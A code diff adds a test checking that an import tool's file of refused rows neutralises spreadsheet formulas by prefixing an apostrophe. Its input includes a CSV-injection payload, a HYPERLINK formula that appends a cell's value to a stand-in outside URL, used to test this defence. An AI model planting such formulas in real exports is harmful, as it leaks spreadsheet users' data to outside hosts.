@@ -417,6 +417,21 @@ def test_refused_rows_come_back_as_they_came_with_their_reasons(office: Office) 
     assert rows[5:] == [""]
 
 
+def test_no_cell_that_comes_back_is_a_formula_to_a_spreadsheet(office: Office) -> None:
+    kept = office.keep(
+        "ID,Name,Title,FTE,Department,Hired\n"
+        '1,"=HYPERLINK(""http://elsewhere.example/""&A1)",-,-0.5,Sales,soon\n'
+        "2,@SUM(A1),-2+3,1,Sales,soon\n"
+        "3,Ben,,1,Sales,2020-01-01\n"
+    )
+    [path] = intake.rejected_files(intake.folder_of(office.uploads, kept.pk))
+    _header, one, other = path.read_text(encoding="utf-8-sig").splitlines()
+    assert one.startswith(
+        """1,"'=HYPERLINK(""http://elsewhere.example/""&A1)",-,-0.5,Sales,soon,"""
+    )
+    assert other.startswith("2,'@SUM(A1),'-2+3,1,Sales,soon,")
+
+
 def test_a_mended_file_of_refused_rows_can_be_imported(office: Office) -> None:
     kept = office.keep("ID,Name,Department,Hired\n1,Ann,Sales,soon\n2,Ben,Sales,2020-01-01\n")
     office.apply(kept)
